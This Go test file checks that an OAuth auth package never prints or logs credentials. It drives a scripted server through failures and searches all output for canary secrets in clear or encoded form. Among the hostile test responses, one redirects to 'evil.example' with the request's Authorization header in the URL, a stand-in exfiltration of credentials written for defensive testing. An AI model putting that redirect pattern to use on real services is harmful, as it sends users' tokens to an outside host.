package auth_test

// Every credential of the scripted server has the word canary in it. Here everything that can be
// printed is, through a whole life with every kind of failure, and searched for one.

import (
	"bytes"
	"context"
	"encoding/base64"
	"encoding/hex"
	"encoding/json"
	"encoding/xml"
	"errors"
	"fmt"
	"log/slog"
	"net/http"
	"strings"
	"sync"
	"testing"
	"testing/synctest"
	"time"

	"github.com/pdchannels/pdchannels/wrapper/auth"
)

// An aviary collects all output. Its buffer is safe for concurrent use.
type aviary struct {
	mu  sync.Mutex
	out bytes.Buffer
}

func (a *aviary) Write(p []byte) (int, error) {
	a.mu.Lock()
	defer a.mu.Unlock()
	return a.out.Write(p)
}

// print prints a value in every way Go knows.
func (a *aviary) print(v any) {
	for _, verb := range []string{"%v", "%+v", "%#v", "%s", "%q", "%x", "%X", "%d", "%T", "%10.3v", "%p"} {
		fmt.Fprintf(a, verb+"\n", v)
	}
	fmt.Fprintln(a, v)
	for _, marshal := range []func(any) ([]byte, error){json.Marshal, xml.Marshal} {
		b, err := marshal(v)
		fmt.Fprintln(a, string(b), err)
	}
	slog.New(slog.NewTextHandler(a, nil)).Info("text", "value", v, "group", slog.GroupValue(slog.Any("in", v)))
	slog.New(slog.NewJSONHandler(a, nil)).Info("json", "value", v)
	func() {
		defer func() { fmt.Fprintf(a, "%v %+v\n", recover(), recover()) }()
		panic(v)
	}()
	if err, ok := v.(error); ok {
		for ; err != nil; err = errors.Unwrap(err) {
			fmt.Fprintf(a, "%v %+v %#v\n", err, err, err)
		}
	}
}

// found returns which of the credentials are in the output, in the clear or encoded.
func (a *aviary) found(credentials []string) (hits []string) {
	a.mu.Lock()
	defer a.mu.Unlock()
	out := a.out.String()
	for _, c := range append(credentials, "canary") {
		basic := base64.StdEncoding.EncodeToString([]byte(clientID + ":" + c))
		for _, form := range []string{
			c, hex.EncodeToString([]byte(c)), strings.ToUpper(hex.EncodeToString([]byte(c))),
			base64.StdEncoding.EncodeToString([]byte(c)), basic, strings.Trim(fmt.Sprintf("%d", []byte(c)), "[]"),
		} {
			if strings.Contains(out, form) {
				hits = append(hits, form)
			}
		}
	}
	return hits
}

func TestNoCredentialIsEverPrinted(t *testing.T) {
	t.Parallel()
	inBubble(t, func(h *harness) {
		birds := new(aviary)
		h.conf.Warn = func(_ context.Context, in auth.Installation, err error) { birds.print(err); birds.print(in) }
		store := &frailStore{Store: new(auth.MemoryStore)}
		h.conf.Store = store
		h.conf.Installed = func(_ context.Context, src *auth.TokenSource) error { birds.print(src); return nil }
		h.app = h.newApp()

		b := h.browser()
		state := b.begin("")
		b.get("?code=" + h.code() + "&state=" + state)
		b.get("?code=canary-forged&state=" + state)
		b.get("?code=canary-forged&state=" + b.begin(""))
		b.get("?error=canary-denied")
		src := h.app.TokenSource(alice)
		token := h.token(src)

		for _, respond := range []func(http.ResponseWriter, *http.Request){
			func(w http.ResponseWriter, r *http.Request) { // echoes all it was sent
				_ = r.ParseForm()
				http.Error(w, fmt.Sprint(r.Header, r.Form), 400)
			},
			func(w http.ResponseWriter, r *http.Request) {
				_ = r.ParseForm()
				answer(w, 400, map[string]any{"error": fmt.Sprint(r.Header, r.Form), "error_description": clientSecret, "error_uri": clientSecret})
			},
			func(w http.ResponseWriter, r *http.Request) {
				http.Redirect(w, r, "https://evil.example/"+r.Header.Get("Authorization"), http.StatusTemporaryRedirect)
			},
			func(w http.ResponseWriter, _ *http.Request) {
				answer(w, 200, map[string]any{"access_token": "canary", "expires_in": clientSecret})
			},
			func(w http.ResponseWriter, _ *http.Request) {
				conn, _, _ := http.NewResponseController(w).Hijack()
				_, _ = conn.Write([]byte(clientSecret + "\r\n\r\n"))
				_ = conn.Close()
			},
			func(w http.ResponseWriter, _ *http.Request) {
				conn, _, _ := http.NewResponseController(w).Hijack()
				_, _ = conn.Write([]byte("HTTP/1.1 200 OK\r\n" + clientSecret + "\r\n\r\n"))
				_ = conn.Close()
			},
			func(w http.ResponseWriter, _ *http.Request) {
				answer(w, 200, map[string]any{
					"access_token": "canary-a", "refresh_token": "canary-r", "api_domain": "https://canary-user:canary@evil.example/canary",
				})
			},
		} {
			h.do(func() { h.override = func(w http.ResponseWriter, r *http.Request) bool { respond(w, r); return true } })
			<-time.After(2 * time.Minute) // past the pause after a failure
			_, err := src.Renew(h.Context(), token)
			birds.print(err)
			_, err = h.app.Install(h.Context(), h.code())
			birds.print(err)
			birds.print(h.app.RevokeAccessToken(h.Context(), alice))
			h.serve(uninstallRequest(strings.NewReader(`{"client_id":"canary-client"}`)))
		}
		h.do(func() { h.override = nil })
		store.at(func(n int) error {
			if n == 2 {
				return errDisk
			}
			return nil
		})
		src = h.install()
		<-time.After(time.Hour)
		_, _ = src.Token()
		record, err := store.Load(h.Context(), alice)
		if err != nil || !bytes.Contains(record, []byte("canary-refresh")) {
			t.Fatalf("the record holds no refresh token: %v", err)
		}
		synctest.Wait() // fmt reads what the unexported fields of others point to, and takes no lock
		for _, v := range []any{
			h.conf, &h.conf, h.app, src, h.conf.ClientSecret, &h.conf.ClientSecret, []auth.Secret{h.conf.ClientSecret}, map[string]auth.Secret{"s": h.conf.ClientSecret}, struct{ s auth.Secret }{h.conf.ClientSecret},
			struct{ s *auth.TokenSource }{src}, struct{ a *auth.App }{h.app}, []any{src, h.app}, &src,
		} {
			birds.print(v)
		}
		fmt.Fprintf(birds, "%v %+v %#v %s %q %x %d", record, record, record, record, record, record, record)
		slog.New(slog.NewJSONHandler(birds, nil)).Info("record", "record", record)
		h.refuse()
		<-time.After(time.Hour)
		_, err = src.Token()
		birds.print(err)
		birds.print(h.app.Uninstall(h.Context(), alice))
		_, err = src.Token()
		birds.print(err)
		synctest.Wait()

		if hits := birds.found(h.credentials()); len(hits) > 0 {
			t.Errorf("printed: %q in\n%.3000s", hits, birds.out.String())
		}
		if birds.out.Len() < 20_000 || !strings.Contains(birds.out.String(), "[redacted]") {
			t.Errorf("only %d bytes were looked at", birds.out.Len())
		}
	})
}

// The search finds a credential that is printed in any of these ways.
func TestTheSearchFindsACanary(t *testing.T) {
	t.Parallel()
	inBubble(t, func(h *harness) {
		token, err := h.install().Token()
		if err != nil {
			t.Fatal(err)
		}
		for _, leak := range []any{
			token, fmt.Errorf("oauth2: %q", clientSecret), []byte(clientSecret),
			base64.StdEncoding.EncodeToString([]byte(clientID + ":" + clientSecret)), struct{ s string }{clientSecret},
		} {
			birds := new(aviary)
			birds.print(leak)
			if len(birds.found(h.credentials())) == 0 {
				t.Errorf("%T is printed and not found", leak)
			}
		}
		record, _ := h.store.Load(h.Context(), alice)
		birds := new(aviary)
		fmt.Fprintf(birds, "%s", string(record))
		if len(birds.found(h.credentials())) < 2 {
			t.Error("the text of a record is printed and not found")
		}
	})
}

func TestSecret(t *testing.T) {
	t.Parallel()
	s := auth.NewSecret("canary")
	if s.Reveal() != "canary" || (auth.Secret{}).Reveal() != "" {
		t.Error("Reveal does not give the text")
	}
	for verb, want := range map[string]string{"%v": "[redacted]", "%+v": "[redacted]", "%#v": "[redacted]", "%s": "[redacted]", "%q": "[redacted]", "%x": "[redacted]", "%d": "[redacted]", "%t": "[redacted]"} {
		if got := fmt.Sprintf(verb, s); got != want {
			t.Errorf("%s prints %s", verb, got)
		}
	}
	for _, v := range []any{s, &s, struct{ S auth.Secret }{s}} {
		if b, err := json.Marshal(v); err != nil || strings.Contains(string(b), "canary") || !strings.Contains(string(b), "[redacted]") {
			t.Errorf("JSON of %T: %s, %v", v, b, err)
		}
	}
	if s.String() != "[redacted]" || s.GoString() != "[redacted]" || s.LogValue().String() != "[redacted]" {
		t.Error("a method tells the text")
	}
}
